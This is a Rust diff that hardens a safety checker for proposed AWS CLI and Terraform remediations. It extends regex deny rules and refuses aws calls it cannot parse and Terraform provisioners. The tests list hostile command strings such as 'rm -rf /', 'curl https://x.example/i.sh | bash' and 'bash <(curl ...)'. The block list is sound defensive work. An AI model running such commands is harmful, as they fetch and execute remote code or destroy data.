@@ -28,6 +28,10 @@ pub enum SafetyError {
     Credential { part: &'static str, kind: String },
     #[error("{part}: the Terraform does not parse: {message}")]
     Terraform { part: &'static str, message: String },
+    #[error("{part}: an `aws` call that cannot be checked against the allowed commands: `{line}`")]
+    UncheckableAws { part: &'static str, line: String },
+    #[error("{part}: {what} is never allowed in Terraform from a remediation")]
+    TerraformForbidden { part: &'static str, what: String },
 }
 
 /// Shell constructs no remediation needs, with the words the error uses.
@@ -35,10 +39,26 @@ fn forbidden() -> &'static [(Regex, &'static str)] {
     static RULES: OnceLock<Vec<(Regex, &'static str)>> = OnceLock::new();
     RULES.get_or_init(|| {
         [
-            (r"\brm\s+(-[a-zA-Z]*[rR][a-zA-Z]*\s+-?[a-zA-Z]*[fF]|-[a-zA-Z]*[fF][a-zA-Z]*\s+-?[a-zA-Z]*[rR]|-[a-zA-Z]*[rR][a-zA-Z]*[fF]|-[a-zA-Z]*[fF][a-zA-Z]*[rR]|--recursive)", "a recursive delete (`rm -rf`)"),
+            // Any flag with an r, in any position: `rm -R`, `rm -v -rf`, `rm --force --recursive`.
+            (
+                r"\brm\s+(?:-\S+\s+)*(?:-[a-zA-Z]*[rR][a-zA-Z]*|--recursive)\b",
+                "a recursive delete (`rm -r`)",
+            ),
             (r"\|\s*(sudo\s+)?(ba|z|k|da)?sh\b", "piping into a shell"),
+            // A remediation has no reason to fetch anything from the web.
+            (
+                r"\b(curl|wget)\b[^\n]*\b(https?|ftp)://",
+                "downloading from the web",
+            ),
             (r"\b(curl|wget)\b[^\n]*\|", "piping a download"),
-            (r"\b(bash|sh)\s+(-c\s+)?<\(", "running a downloaded script"),
+            (
+                r"<\(\s*(curl|wget)\b|\$\(\s*(curl|wget)\b",
+                "running a downloaded script",
+            ),
+            (
+                r"\b(bash|sh|source)\s+(-c\s+)?<\(",
+                "running a downloaded script",
+            ),
             (r"\beval\b", "`eval`"),
             (r"\bmkfs(\.\w+)?\b|\bdd\s+if=", "writing raw devices"),
             (r"\bchmod\s+(-R\s+)?0?777\b", "world-writable permissions"),
@@ -99,6 +119,9 @@ pub fn check_proposal(proposal: &Proposal, allowed_commands: &[String]) -> Resul
         check_text(part, text)?;
         match proposal.format {
             Format::AwsCli => {
+                if let Some(line) = uncheckable_aws(text) {
+                    return Err(SafetyError::UncheckableAws { part, line });
+                }
                 for command in aws_commands(text) {
                     if !allowed_commands.contains(&command) {
                         return Err(SafetyError::CommandNotAllowed {
@@ -114,25 +137,70 @@ pub fn check_proposal(proposal: &Proposal, allowed_commands: &[String]) -> Resul
                     part,
                     message: e.to_string(),
                 })?;
+                if let Some(m) = terraform_exec().find(text) {
+                    return Err(SafetyError::TerraformForbidden {
+                        part,
+                        what: format!("`{}`", m.as_str()),
+                    });
+                }
             }
         }
     }
     Ok(())
 }
 
+/// Provisioners and the external data source run commands, around the
+/// allowed-commands check.
+fn terraform_exec() -> &'static Regex {
+    static EXEC: OnceLock<Regex> = OnceLock::new();
+    EXEC.get_or_init(|| {
+        Regex::new(r#"\bprovisioner\s+"?[\w-]+"?|\bdata\s+"external""#)
+            .expect("the terraform exec pattern is a valid regex")
+    })
+}
+
+/// Non-comment lines of a script, with `\`-newline continuations joined so
+/// that a command split over lines is read whole.
+fn logical_lines(script: &str) -> Vec<String> {
+    script
+        .replace("\\\r\n", " ")
+        .replace("\\\n", " ")
+        .lines()
+        .filter(|line| !line.trim_start().starts_with('#'))
+        .map(str::to_owned)
+        .collect()
+}
+
+/// The first line that runs `aws` in a way [`aws_commands`] does not read
+/// (`command aws`, `sudo aws`, `VAR=x aws`, `/usr/bin/aws`, `"aws"`, …):
+/// such a call cannot be checked, so it is refused.
+fn uncheckable_aws(script: &str) -> Option<String> {
+    static ANY: OnceLock<Regex> = OnceLock::new();
+    let any = ANY.get_or_init(|| {
+        Regex::new(r#"(?:^|[\s;&|(`{!"'/=])aws["']?(?:\s|$)"#)
+            .expect("the aws word pattern is a valid regex")
+    });
+    logical_lines(script)
+        .into_iter()
+        .find(|line| any.find_iter(line).count() != recognised_aws(line).count())
+}
+
+fn recognised_aws(line: &str) -> impl Iterator<Item = regex::Captures<'_>> {
+    static AWS: OnceLock<Regex> = OnceLock::new();
+    let aws = AWS.get_or_init(|| {
+        Regex::new(r"(?:^|[;&|(`]|\bthen|\bdo|\bif|\belse|\bexec)\s*aws\s+(?:--\S+\s+(?:[^-\s]\S*\s+)?)*([a-z0-9-]+)\s+([a-z0-9-]+)")
+            .expect("the aws command pattern is a valid regex")
+    });
+    aws.captures_iter(line)
+}
+
 /// `service operation` of every `aws` invocation in a script, wherever it
 /// stands (start of line, after `;`, `&&`, `|`, `$(`, `if`, …).
 pub fn aws_commands(script: &str) -> Vec<String> {
-    static AWS: OnceLock<Regex> = OnceLock::new();
-    let aws = AWS.get_or_init(|| {
-        Regex::new(r"(?m)(?:^|[;&|(`]|\bthen|\bdo|\bif|\bexec|\bxargs)\s*aws\s+(?:--\S+\s+(?:[^-\s]\S*\s+)?)*([a-z0-9-]+)\s+([a-z0-9-]+)")
-            .expect("the aws command pattern is a valid regex")
-    });
-    script
-        .lines()
-        .filter(|line| !line.trim_start().starts_with('#'))
+    logical_lines(script)
+        .iter()
         .flat_map(|line| {
-            aws.captures_iter(line)
+            recognised_aws(line)
                 .map(|c| format!("{} {}", &c[1], &c[2]))
                 .collect::<Vec<_>>()
         })
@@ -191,14 +259,50 @@ mod tests {
     }
 
     #[test]
+    fn aws_calls_that_cannot_be_read_are_refused() {
+        let allowed = vec!["ec2 revoke-security-group-ingress".to_owned()];
+        for body in [
+            "aws ec2 \\\n  terminate-instances --instance-ids i-1\n",
+            "command aws iam create-user --user-name x\n",
+            "AWS_PROFILE=prod aws iam create-user --user-name x\n",
+            "sudo aws iam create-user\n",
+            "/usr/local/bin/aws iam create-user\n",
+            "\"aws\" iam create-user\n",
+            "{ aws iam create-user; }\n",
+        ] {
+            let result = check_proposal(&proposal(Format::AwsCli, body), &allowed);
+            assert!(
+                matches!(
+                    result,
+                    Err(SafetyError::UncheckableAws { .. } | SafetyError::CommandNotAllowed { .. })
+                ),
+                "{body}: {result:?}"
+            );
+        }
+        // A continuation inside an allowed command is fine, and `arn:aws:` is no call.
+        let split = "aws ec2 revoke-security-group-ingress \\\n  --group-id 'sg-1' --ip-permissions 'arn:aws:x'\n";
+        assert_eq!(
+            check_proposal(&proposal(Format::AwsCli, split), &allowed),
+            Ok(())
+        );
+    }
+
+    #[test]
     fn dangerous_shell_and_credentials_are_refused() {
         for text in [
             "rm -rf /var/lib",
             "rm -fr ~",
             "rm --recursive --force x",
+            "rm -R /",
+            "rm -r -v -f /",
+            "rm -v -rf /",
+            "rm --force --recursive /",
             "curl https://x.example/i.sh | bash",
             "wget -qO- https://x.example | sh",
             "bash <(curl -s https://x.example)",
+            "sh -c \"$(curl -fsSL https://x.example/i.sh)\"",
+            "source <(curl -s x.example)",
+            "curl -o i.sh https://x.example/i.sh && bash i.sh",
             "eval \"$X\"",
             "chmod -R 777 /",
         ] {
@@ -218,6 +322,18 @@ mod tests {
             check_text("steps", "Delete the rule, then rm the local plan file."),
             Ok(())
         );
+    }
+
+    #[test]
+    fn terraform_may_not_run_commands() {
+        let exec = proposal(
+            Format::Terraform,
+            "resource \"null_resource\" \"x\" {\n  provisioner \"local-exec\" {\n    command = \"aws iam create-user\"\n  }\n}\n",
+        );
+        assert!(matches!(
+            check_proposal(&exec, &[]),
+            Err(SafetyError::TerraformForbidden { .. })
+        ));
     }
 
     #[test]
